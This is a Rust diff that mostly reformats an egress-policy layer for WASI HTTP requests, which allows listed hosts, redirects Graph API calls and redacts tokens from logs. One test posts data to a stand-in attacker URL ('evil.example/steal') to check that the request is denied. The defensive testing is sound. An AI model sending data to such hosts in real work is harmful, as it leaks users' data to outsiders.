@@ -61,7 +61,8 @@ impl EgressPolicy {
 
     /// The same policy, redacting `secrets` too.
     pub fn with_secrets(mut self, secrets: impl IntoIterator<Item = String>) -> Self {
-        self.secrets.extend(secrets.into_iter().filter(|s| !s.is_empty()));
+        self.secrets
+            .extend(secrets.into_iter().filter(|s| !s.is_empty()));
         self
     }
 
@@ -128,8 +129,16 @@ pub struct EgressHooks {
 impl EgressHooks {
     /// Hooks applying `policy`, appending to `log`, and adding the time
     /// spent on requests to `waiting_nanos`.
-    pub fn new(policy: Arc<EgressPolicy>, log: Arc<Mutex<Vec<Exchange>>>, waiting_nanos: Arc<AtomicU64>) -> Self {
-        EgressHooks { policy, log, waiting_nanos }
+    pub fn new(
+        policy: Arc<EgressPolicy>,
+        log: Arc<Mutex<Vec<Exchange>>>,
+        waiting_nanos: Arc<AtomicU64>,
+    ) -> Self {
+        EgressHooks {
+            policy,
+            log,
+            waiting_nanos,
+        }
     }
 }
 
@@ -139,7 +148,8 @@ impl WasiHttpHooks for EgressHooks {
         request: http::Request<WasiBody>,
         _options: Option<RequestOptions>,
         _fut: IoFuture,
-    ) -> Box<dyn Future<Output = Result<(http::Response<WasiBody>, IoFuture), HttpError>> + Send> {
+    ) -> Box<dyn Future<Output = Result<(http::Response<WasiBody>, IoFuture), HttpError>> + Send>
+    {
         let policy = self.policy.clone();
         let log = self.log.clone();
         let waiting = self.waiting_nanos.clone();
@@ -149,7 +159,8 @@ impl WasiHttpHooks for EgressHooks {
             struct Waited(Instant, Arc<AtomicU64>);
             impl Drop for Waited {
                 fn drop(&mut self) {
-                    self.1.fetch_add(self.0.elapsed().as_nanos() as u64, Ordering::Relaxed);
+                    self.1
+                        .fetch_add(self.0.elapsed().as_nanos() as u64, Ordering::Relaxed);
                 }
             }
             let _waited = Waited(started, waiting);
@@ -187,16 +198,29 @@ impl WasiHttpHooks for EgressHooks {
             let body = match body.collect().await {
                 Ok(b) => b.to_bytes(),
                 Err(e) => {
-                    record(None, &Bytes::new(), ExchangeResult::Failed { error: format!("request body: {e}") });
+                    record(
+                        None,
+                        &Bytes::new(),
+                        ExchangeResult::Failed {
+                            error: format!("request body: {e}"),
+                        },
+                    );
                     return Err(e);
                 }
             };
-            if !policy.allowed_hosts.iter().any(|h| h.eq_ignore_ascii_case(&host)) {
+            if !policy
+                .allowed_hosts
+                .iter()
+                .any(|h| h.eq_ignore_ascii_case(&host))
+            {
                 record(
                     None,
                     &body,
                     ExchangeResult::Denied {
-                        reason: format!("`{host}` is not an allowed host ({})", policy.allowed_hosts.join(", ")),
+                        reason: format!(
+                            "`{host}` is not an allowed host ({})",
+                            policy.allowed_hosts.join(", ")
+                        ),
                     },
                 );
                 return Err(HttpError::HttpRequestDenied);
@@ -205,18 +229,28 @@ impl WasiHttpHooks for EgressHooks {
             let mut sent_to = None;
             if let Some(base) = &policy.redirect {
                 let prefix = base.path().trim_end_matches('/');
-                let pq = parts.uri.path_and_query().map(|p| p.as_str()).unwrap_or("/");
+                let pq = parts
+                    .uri
+                    .path_and_query()
+                    .map(|p| p.as_str())
+                    .unwrap_or("/");
                 let target = http::Uri::builder()
                     .scheme(base.scheme().cloned().unwrap_or(http::uri::Scheme::HTTP))
-                    .authority(base.authority().cloned().ok_or(HttpError::HttpRequestUriInvalid)?)
+                    .authority(
+                        base.authority()
+                            .cloned()
+                            .ok_or(HttpError::HttpRequestUriInvalid)?,
+                    )
                     .path_and_query(format!("{prefix}{pq}"))
                     .build()
                     .map_err(|_| HttpError::HttpRequestUriInvalid)?;
                 sent_to = Some(policy.redact(&target.to_string()));
                 parts.headers.insert(
                     http::header::HOST,
-                    http::HeaderValue::from_str(target.authority().map(|a| a.as_str()).unwrap_or_default())
-                        .map_err(|_| HttpError::HttpRequestUriInvalid)?,
+                    http::HeaderValue::from_str(
+                        target.authority().map(|a| a.as_str()).unwrap_or_default(),
+                    )
+                    .map_err(|_| HttpError::HttpRequestUriInvalid)?,
                 );
                 parts.uri = target;
             }
@@ -226,14 +260,26 @@ impl WasiHttpHooks for EgressHooks {
                 first_byte_timeout: Some(policy.first_byte_timeout),
                 between_bytes_timeout: Some(policy.between_bytes_timeout),
             };
-            let outgoing = http::Request::from_parts(parts, Full::new(body.clone()).map_err(|n| match n {}).boxed_unsync());
-            let (response, io) = match wasmtime_wasi_http::default_send_request(outgoing, Some(options)).await {
-                Ok(r) => r,
-                Err(e) => {
-                    record(sent_to, &body, ExchangeResult::Failed { error: e.to_string() });
-                    return Err(e);
-                }
-            };
+            let outgoing = http::Request::from_parts(
+                parts,
+                Full::new(body.clone())
+                    .map_err(|n| match n {})
+                    .boxed_unsync(),
+            );
+            let (response, io) =
+                match wasmtime_wasi_http::default_send_request(outgoing, Some(options)).await {
+                    Ok(r) => r,
+                    Err(e) => {
+                        record(
+                            sent_to,
+                            &body,
+                            ExchangeResult::Failed {
+                                error: e.to_string(),
+                            },
+                        );
+                        return Err(e);
+                    }
+                };
             let (head, answer) = response.into_parts();
             // Read the whole answer here, driving the connection meanwhile,
             // so it can be recorded; Graph answers are small.
@@ -257,7 +303,10 @@ impl WasiHttpHooks for EgressHooks {
                     body: policy.redact(&String::from_utf8_lossy(&answer)),
                 },
             );
-            let response = http::Response::from_parts(head, Full::new(answer).map_err(|n| match n {}).boxed_unsync());
+            let response = http::Response::from_parts(
+                head,
+                Full::new(answer).map_err(|n| match n {}).boxed_unsync(),
+            );
             Ok((response, Box::new(async { Ok(()) }) as IoFuture))
         })
     }
@@ -271,15 +320,24 @@ mod tests {
     fn request(url: &str, body: &'static str) -> http::Request<WasiBody> {
         http::Request::post(url)
             .header("authorization", "Bearer tok-123")
-            .body(Full::new(Bytes::from_static(body.as_bytes())).map_err(|n| match n {}).boxed_unsync())
+            .body(
+                Full::new(Bytes::from_static(body.as_bytes()))
+                    .map_err(|n| match n {})
+                    .boxed_unsync(),
+            )
             .unwrap()
     }
 
-    async fn send(policy: EgressPolicy, req: http::Request<WasiBody>) -> (Result<u16, HttpError>, Vec<Exchange>) {
+    async fn send(
+        policy: EgressPolicy,
+        req: http::Request<WasiBody>,
+    ) -> (Result<u16, HttpError>, Vec<Exchange>) {
         let log: Arc<Mutex<Vec<Exchange>>> = Default::default();
         let mut hooks = EgressHooks::new(Arc::new(policy), log.clone(), Default::default());
         let fut = hooks.send_request(req, None, Box::new(async { Ok(()) }));
-        let r = Box::into_pin(fut).await.map(|(resp, _)| resp.status().as_u16());
+        let r = Box::into_pin(fut)
+            .await
+            .map(|(resp, _)| resp.status().as_u16());
         let exchanges = log.lock().unwrap().clone();
         (r, exchanges)
     }
@@ -287,7 +345,10 @@ mod tests {
     /// A one-shot HTTP server answering 200 with `answer` to one request, returning
     /// what it received.
     async fn one_shot(answer: &'static str) -> (String, tokio::task::JoinHandle<String>) {
-        let reply = format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{answer}", answer.len());
+        let reply = format!(
+            "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{answer}",
+            answer.len()
+        );
         let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
         let addr = listener.local_addr().unwrap();
         let task = tokio::spawn(async move {
@@ -301,7 +362,11 @@ mod tests {
                 if let Some(end) = text.find("\r\n\r\n") {
                     let len = text
                         .lines()
-                        .find_map(|l| l.to_ascii_lowercase().strip_prefix("content-length: ").map(|v| v.trim().parse::<usize>().unwrap()))
+                        .find_map(|l| {
+                            l.to_ascii_lowercase()
+                                .strip_prefix("content-length: ")
+                                .map(|v| v.trim().parse::<usize>().unwrap())
+                        })
                         .unwrap_or(0);
                     if got.len() >= end + 4 + len {
                         break;
@@ -319,19 +384,33 @@ mod tests {
 
     #[tokio::test]
     async fn other_hosts_are_denied_and_recorded() {
-        let (r, log) = send(EgressPolicy::graph(None), request("https://evil.example/steal", "{\"em\":1}")).await;
+        let (r, log) = send(
+            EgressPolicy::graph(None),
+            request("https://evil.example/steal", "{\"em\":1}"),
+        )
+        .await;
         assert!(matches!(r, Err(HttpError::HttpRequestDenied)));
         assert_eq!(log.len(), 1);
         assert!(matches!(log[0].result, ExchangeResult::Denied { .. }));
-        assert_eq!(log[0].request_body, "{\"em\":1}", "the body was drained before refusing");
+        assert_eq!(
+            log[0].request_body, "{\"em\":1}",
+            "the body was drained before refusing"
+        );
     }
 
     #[tokio::test]
     async fn graph_requests_are_redirected_and_the_token_never_recorded() {
-        let (base, server) =
-            one_shot("{\"events_received\":1,\"fbtrace_id\":\"tok-123\"}").await;
-        let policy = EgressPolicy::graph(Some(format!("{base}/prefix").parse().unwrap())).with_secrets(["tok-123".to_string()]);
-        let (r, log) = send(policy, request("https://graph.facebook.com/v24.0/1/events?access_token=tok-123", "{}")).await;
+        let (base, server) = one_shot("{\"events_received\":1,\"fbtrace_id\":\"tok-123\"}").await;
+        let policy = EgressPolicy::graph(Some(format!("{base}/prefix").parse().unwrap()))
+            .with_secrets(["tok-123".to_string()]);
+        let (r, log) = send(
+            policy,
+            request(
+                "https://graph.facebook.com/v24.0/1/events?access_token=tok-123",
+                "{}",
+            ),
+        )
+        .await;
         assert_eq!(r.unwrap(), 200);
         let seen = server.await.unwrap();
         assert!(seen.starts_with("POST /prefix/v24.0/1/events"), "{seen}");
@@ -351,9 +430,16 @@ mod tests {
         let mut policy = EgressPolicy::graph(Some(format!("http://{addr}").parse().unwrap()));
         policy.first_byte_timeout = Duration::from_millis(200);
         let started = Instant::now();
-        let (r, log) = send(policy, request("https://graph.facebook.com/v24.0/1/events", "{}")).await;
+        let (r, log) = send(
+            policy,
+            request("https://graph.facebook.com/v24.0/1/events", "{}"),
+        )
+        .await;
         assert!(r.is_err());
-        assert!(started.elapsed() < Duration::from_secs(5), "the host's timeout applies, not 600 s");
+        assert!(
+            started.elapsed() < Duration::from_secs(5),
+            "the host's timeout applies, not 600 s"
+        );
         assert!(matches!(log[0].result, ExchangeResult::Failed { .. }));
     }
 }
